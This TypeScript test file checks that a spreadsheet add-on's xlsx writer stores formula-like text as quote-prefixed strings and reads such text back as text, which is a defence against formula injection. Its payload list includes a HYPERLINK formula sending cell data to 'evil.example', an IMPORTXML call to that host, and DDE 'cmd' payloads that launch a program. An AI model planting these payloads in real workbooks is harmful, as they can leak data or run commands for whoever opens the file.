/**
 * Text that looks like a formula is never a formula in a written workbook: it is a string whose cell format has a
 * quote prefix (`<xf quotePrefix="1">`), so Excel and LibreOffice show it as typed and keep it text when the cell
 * is edited; and such text read from a workbook, with or without the prefix, stays text.
 */
import ExcelJS from 'exceljs';
import { CallLog } from '../../../src/local/call-log';
import { readXlsxBuffer, writeXlsxBuffer } from '../../../src/local/xlsx';
import { inspectXlsx, liveOrUnprefixed } from '../../cli/xlsx-inspect';
import { openpyxlWorkbook } from '../../cli/openpyxl-package';
import { aSpreadsheet } from '../spreadsheet/builders';

/** Payloads a roster or a request could carry, as the add-on writes them (escaped with a leading apostrophe). */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '=IMPORTXML("http://evil.example","//a")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
];

describe('the xlsx writer and formula-like text', () => {
  it('writes each payload as a string with a quote prefix, never as a formula', async () => {
    const built = aSpreadsheet()
      .withValues(PAYLOADS.map((text) => [`'${text}`]))
      .build();
    const workbook = await inspectXlsx(await writeXlsxBuffer(built.spreadsheet));
    const cells = workbook.cells.filter((cell) => cell.sheet === 'Sheet1');
    expect(
      cells.map(({ value, formula, quotePrefix, type }) => ({ value, formula, quotePrefix, type })),
    ).toEqual(PAYLOADS.map((value) => ({ value, formula: null, quotePrefix: true, type: 's' })));
    expect(liveOrUnprefixed(workbook)).toEqual([]);
  });

  it("also prefixes text Sheets would turn into a number or a boolean, and leaves the add-on's formulas alone", async () => {
    const built = aSpreadsheet()
      .withValues([["'007", "'TRUE", "'12.5", 'GP', 12, '=A2*2', '+57 301 555', "''quoted"]])
      .build();
    const workbook = await inspectXlsx(await writeXlsxBuffer(built.spreadsheet));
    const byRef = Object.fromEntries(workbook.cells.map((c) => [c.ref, [c.value, c.formula, c.quotePrefix]]));
    expect(byRef).toEqual({
      A1: ['007', null, true],
      B1: ['TRUE', null, true],
      C1: ['12.5', null, true],
      D1: ['GP', null, false],
      E1: ['12', null, false],
      // A formula the add-on wrote (a spreadsheet formula, not roster text) stays one.
      F1: [null, 'A2*2', false],
      // Text Sheets could not parse as a formula (#ERROR!) is written as the text typed.
      G1: ['+57 301 555', null, true],
      H1: ["'quoted", null, false],
    });
  });

  it('keeps the rest of the cell format of a prefixed cell', async () => {
    const built = aSpreadsheet()
      .withValues([["'=1+1", 'plain']])
      .build();
    built.sheet.getRange('A1:B1').setFontWeight('bold').setBackground('#d9ead3').setNumberFormat('@');
    const data = await writeXlsxBuffer(built.spreadsheet);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(data as unknown as ArrayBuffer);
    const a1 = workbook.worksheets[0]!.getCell('A1');
    expect([a1.value, a1.font?.bold, a1.fill, a1.numFmt]).toEqual([
      '=1+1',
      true,
      { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFD9EAD3' } },
      '@',
    ]);
    const cells = (await inspectXlsx(data)).cells;
    expect(cells.map((c) => [c.ref, c.quotePrefix])).toEqual([
      ['A1', true],
      ['B1', false],
    ]);
  });

  it('reads formula-like text back as text, the prefix kept on the next write', async () => {
    const built = aSpreadsheet()
      .withValues(PAYLOADS.map((text) => [`'${text}`]))
      .build();
    const back = await readXlsxBuffer(await writeXlsxBuffer(built.spreadsheet), { calls: new CallLog() });
    const sheet = back.getSheets()[0]!;
    expect(sheet.getRange(1, 1, PAYLOADS.length, 1).getValues()).toEqual(PAYLOADS.map((text) => [text]));
    expect(sheet.getRange(1, 1, PAYLOADS.length, 1).getFormulas().flat()).toEqual(PAYLOADS.map(() => ''));
    expect(liveOrUnprefixed(await inspectXlsx(await writeXlsxBuffer(back)))).toEqual([]);
  });

  it('reads formula-like text from a workbook made elsewhere (inline strings, no prefix) as text', async () => {
    const data = await openpyxlWorkbook([
      { name: 'Students', rows: [['name'], ...PAYLOADS.map((t) => [t])] },
    ]);
    const back = await readXlsxBuffer(data, { calls: new CallLog() });
    const sheet = back.getSheets()[0]!;
    expect(sheet.getRange(2, 1, PAYLOADS.length, 1).getValues()).toEqual(PAYLOADS.map((text) => [text]));
    const written = await inspectXlsx(await writeXlsxBuffer(back));
    expect(liveOrUnprefixed(written)).toEqual([]);
  });
});
